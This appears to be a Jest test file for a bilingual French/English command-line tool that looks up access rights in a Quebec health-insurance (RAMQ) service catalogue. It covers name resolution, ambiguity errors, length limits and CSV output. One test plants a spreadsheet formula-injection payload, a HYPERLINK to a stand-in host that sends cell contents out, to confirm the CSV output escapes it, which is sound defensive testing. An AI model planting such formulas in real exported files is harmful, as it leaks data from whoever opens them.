/**
 * Issue 12's examples, end to end through the CLI, in French and in English:
 * names pasted from the page or copied from the tool's own output resolve,
 * plurals and everyday words resolve when they name one clientele and list
 * every candidate when they name several, and a name of the wrong kind gets
 * the command that answers.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { loadCatalog } from '../src/catalog/load-catalog';
import { CATALOG, frenchSpaces, runCli } from './helpers';

type Lang = 'fr' | 'en';
const LANGS: readonly Lang[] = ['fr', 'en'];

const loaded = loadCatalog(CATALOG);
if (!loaded.ok) throw new Error('shipped catalogue is invalid');
const catalog = loaded.catalog;

async function ask(argv: readonly string[], lang: Lang): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return await runCli([...argv, '--lang', lang], { NO_COLOR: '1' }, false, '');
}

async function json(argv: readonly string[], lang: Lang): Promise<Record<string, unknown>> {
  const out = await ask([...argv, '--json'], lang);
  expect({ argv, code: out.code, stderr: out.stderr }).toEqual({ argv, code: 0, stderr: '' });
  return JSON.parse(out.stdout) as Record<string, unknown>;
}

const idOf = (j: Record<string, unknown>, key: 'clientele' | 'service'): string => (j[key] as { id: string }).id;

describe.each(LANGS)('--lang %s', (lang) => {
  test.each([
    ['Audioprothésiste (accès aux états de compte seulement)', 'audioprothesiste', 'accès aux états de compte seulement'],
    ["Médecin omnipraticien ou omnipraticienne membre d'un GMF", 'medecin-omnipraticien', 'membre d’un GMF'],
    ['Médecin omnipraticien ou omnipraticienne membre d’un GMF', 'medecin-omnipraticien', 'membre d’un GMF'],
  ])('a list item of the page resolves, and the answer shows its condition: %s', async (label, id, fr) => {
    const j = await json(['services', label], lang);
    expect(idOf(j, 'clientele')).toBe(id);
    expect(j['named_condition']).toEqual(expect.objectContaining({ fr }));
    const table = await ask(['services', label], lang);
    expect(table.code).toBe(0);
    const condition = (j['named_condition'] as { fr: string; en: string })[lang];
    expect(table.stdout).toContain(lang === 'fr' ? frenchSpaces(`Nom donné avec la condition : ${condition}`) : `Name given with the condition: ${condition}`);
  });

  test("can with a page label: the condition is shown, and said to be another grant's when the service's has none", async () => {
    const label = 'Audioprothésiste (accès aux états de compte seulement)';
    const here = (await ask(['can', label, 'messagerie-securisee'], lang)).stdout;
    const elsewhere = (await ask(['can', label, 'selat'], lang)).stdout;
    const said =
      lang === 'fr' ? 'Nom donné avec la condition : accès aux états de compte seulement' : 'Name given with the condition: statements of account only';
    expect(here.replace(/\s+/g, ' ')).toContain(said);
    expect(here.replace(/\s+/g, ' ')).not.toContain(lang === 'fr' ? 'pas de ce service' : "not of this service's");
    expect(elsewhere.replace(/\s+/g, ' ')).toContain(
      lang === 'fr' ? `${said} (celle d’un autre de ses accès, pas de ce service)` : `${said} (a condition of another of its grants, not of this service's)`,
    );
    expect((await json(['can', label, 'selat'], lang))['named_condition']).toEqual(expect.objectContaining({ fr: 'accès aux états de compte seulement' }));
  });

  test('every service resolves by the title the tool prints for it, abbreviation included', async () => {
    for (const s of catalog.services.filter((x) => x.abbreviation !== null)) {
      const title = `${lang === 'en' ? s.name_en : s.name} (${s.abbreviation})`;
      const j = await json(['show', title], lang);
      expect({ title, id: (j['service'] as { id: string }).id }).toEqual({ title, id: s.id });
    }
  });

  test.each([
    ['Podiatres', 'podiatre'],
    ['pharmacists', 'pharmacien'],
    ['nurse practitioners', 'ips'],
    ['développeurs de logiciels', 'developpeur-logiciel'],
    ['dentiste', 'chirurgien-dentiste'],
    ['Infirmières praticiennes spécialisées en soins de première ligne', 'ips-premiere-ligne'],
  ])('plurals and everyday words that name one clientele resolve: %s', async (name, id) => {
    expect(idOf(await json(['services', name], lang), 'clientele')).toBe(id);
  });

  test.each([
    ['secrétaire', ['personnel-administratif', 'personnel-administratif-audioprothesiste-oculariste', 'personnel-etablissements']],
    ['MD', ['medecin-resident', 'medecin-omnipraticien', 'medecin-specialiste']],
    ['médecin', ['medecin-resident', 'medecin-omnipraticien', 'medecin-specialiste']],
  ])('a word that names several clienteles lists every one and answers nothing: %s', async (word, ids) => {
    const out = await ask(['services', word], lang);
    expect(out.code).toBe(2);
    expect(out.stdout).toBe('');
    expect(out.stderr).toContain(lang === 'fr' ? frenchSpaces(`« ${word} » est ambigu`) : `"${word}" is ambiguous`);
    for (const id of ids) expect(out.stderr).toContain(id);
  });

  test('GMF is no clientele: exit 2, the general practitioner suggested', async () => {
    const out = await ask(['services', 'GMF'], lang);
    expect(out.code).toBe(2);
    expect(out.stderr).toContain('medecin-omnipraticien');
  });

  test.each([
    [
      ['who', 'podiatre'],
      'ramq-access services podiatre',
      { fr: '« podiatre » est une clientèle, pas un service', en: '"podiatre" is a clientele, not a service' },
    ],
    [['services', 'SELAT'], 'ramq-access who selat', { fr: '« SELAT » est un service, pas une clientèle', en: '"SELAT" is a service, not a clientele' }],
    [
      ['can', 'facturacte', 'hygiéniste dentaire'],
      'ramq-access can hygieniste-dentaire facturacte',
      {
        fr: 'les deux noms sont inversés : « facturacte » est un service et « hygiéniste dentaire » une clientèle',
        en: 'the two names are the other way round: "facturacte" is a service and "hygiéniste dentaire" a clientele',
      },
    ],
  ] as const)('a name of the wrong kind: %j exits 2 and prints the command that answers', async (argv, command, said) => {
    const out = await ask(argv, lang);
    expect(out.code).toBe(2);
    expect(out.stdout).toBe('');
    expect(out.stderr.trim().split('\n')).toHaveLength(1);
    expect(out.stderr).toContain(lang === 'fr' ? frenchSpaces(said.fr) : said.en);
    expect(out.stderr.trimEnd().endsWith(command)).toBe(true);
    // The command printed answers.
    const answer = await runCli([...command.split(' ').slice(1), '--lang', lang], { NO_COLOR: '1' }, false, '');
    expect([0, 1]).toContain(answer.code);
    expect(answer.stdout).not.toBe('');
  });

  test('in a batch, a name of the wrong kind is a WRONG_KIND line with the command that answers', async () => {
    const out = await runCli(['who', '--batch', '--lang', lang], {}, false, 'podiatre\nSELAT\n');
    expect(out.code).toBe(2);
    const [first, second] = out.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, { code: string; instead?: string }>);
    expect(first?.['error']).toEqual(expect.objectContaining({ code: 'WRONG_KIND', instead: 'ramq-access services podiatre' }));
    expect(second?.['service']).toEqual(expect.objectContaining({ id: 'selat' }));
  });
});

describe('a name too long to be one', () => {
  const huge = 'podiatre '.repeat(12_000);
  test.each(['fr', 'en'] as const)('an argument: exit 2, one short line, no echo (%s)', async (lang) => {
    const out = await runCli(['services', huge, '--lang', lang], {}, false, '');
    expect(out.code).toBe(2);
    expect(out.stderr).toBe(
      lang === 'fr'
        ? frenchSpaces(`ramq-access: nom trop long : ${(108_000).toLocaleString('fr-CA')} caractères ; un nom en compte au plus 300\n`)
        : 'ramq-access: name too long: 108,000 characters; a name has at most 300\n',
    );
  });

  test('a batch line: an error object, and the next line is answered', async () => {
    // Under the 64 KiB a batch line may have (a longer line is LINE_TOO_LONG, see stream.test.ts), over the 300 characters of a name.
    const long = 'podiatre '.repeat(1000);
    const out = await runCli(['can', '--batch', '--lang', 'en'], {}, false, `${long}\tselat\npodiatre\tselat\n`);
    const [first, second] = out.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, { code?: string; id?: string; input?: string }>);
    expect(first?.['error']?.code).toBe('NAME_TOO_LONG');
    expect(first?.['error']?.input).toBe('');
    expect(second?.['clientele']?.id).toBe('podiatre');
    expect(out.code).toBe(2);
  });
});

/** The rows of an RFC 4180 text, each a list of cells (quoted cells may hold line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += ch;
    }
  }
  return rows;
}

test('CSV: a list cell holds one item per line, so a condition holding " ; " or " | " stays one condition', async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ramq-csv-'));
  try {
    const file = path.join(dir, 'catalog.yaml');
    const grant =
      '      - clientele: audioprothesiste\n        tier: request\n        conditions:\n          - fr: accès aux états de compte seulement\n            en: statements of account only\n';
    const conditions = [
      ['A ; B | condition=C', 'A ; B | condition=C (en)'],
      ['- D', '- D (en)'],
    ];
    const text = fs
      .readFileSync(CATALOG, 'utf8')
      .replace(
        grant,
        `      - clientele: audioprothesiste\n        tier: request\n        conditions:\n${conditions.map(([fr, en]) => `          - fr: "${fr}"\n            en: "${en}"\n`).join('')}`,
      );
    expect(text).toContain('condition=C');
    fs.writeFileSync(file, text);
    const cells = async (argv: string[], column: string, row: (r: Record<string, string>) => boolean): Promise<string> => {
      const [head, ...rows] = parseCsv((await runCli([...argv, '--format', 'csv', '--catalog', file], {}, false, '')).stdout);
      const records = rows.map((r) => Object.fromEntries(head!.map((h, i) => [h, r[i] ?? ''])));
      const found = records.filter(row);
      expect(found).toHaveLength(1);
      return found[0]![column]!;
    };
    const fr = conditions.map(([c]) => c!);
    const en = conditions.map(([, c]) => c!);
    const ofMessagerie = (r: Record<string, string>): boolean => r['service'] === 'messagerie-securisee';
    expect((await cells(['services', 'audioprothesiste'], 'conditions', ofMessagerie)).split('\n')).toEqual(fr);
    expect((await cells(['services', 'audioprothesiste'], 'conditions_en', ofMessagerie)).split('\n')).toEqual(en);
    expect((await cells(['who', 'messagerie-securisee'], 'conditions', (r) => r['clientele'] === 'audioprothesiste')).split('\n')).toEqual(fr);
    expect((await cells(['can', 'audioprothesiste', 'messagerie-securisee'], 'conditions_en', () => true)).split('\n')).toEqual(en);
    // A grant cell: the tier on its line, then each condition on a line of its own after "- ".
    const matrixCell = await cells(['matrix', '--lang', 'en'], 'messagerie-securisee', (r) => r['clientele'] === 'audioprothesiste');
    expect(matrixCell.split('\n')).toEqual(['request', ...en.map((c) => `- ${c}`)]);
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

test('CSV: a catalogue name that starts like a formula comes out as text in every CSV answer', async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ramq-csv-'));
  try {
    const file = path.join(dir, 'catalog.yaml');
    const text = fs.readFileSync(CATALOG, 'utf8').replace('    name: Podiatre\n', '    name: "=HYPERLINK(\\"http://x.example/?q=\\"&A1,\\"go\\")"\n');
    fs.writeFileSync(file, text);
    for (const argv of [['services', 'podiatre'], ['who', 'selat'], ['can', 'podiatre', 'selat'], ['list', 'clienteles'], ['show', 'podiatre'], ['matrix']]) {
      const out = await runCli([...argv, '--format', 'csv', '--catalog', file], {}, false, '');
      expect({ argv, code: out.code === 0 || out.code === 1 }).toEqual({ argv, code: true });
      // Every cell that holds the name starts with the apostrophe, never with "=".
      expect({ argv, raw: /(^|,)"?=HYPERLINK/m.test(out.stdout) }).toEqual({ argv, raw: false });
    }
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});
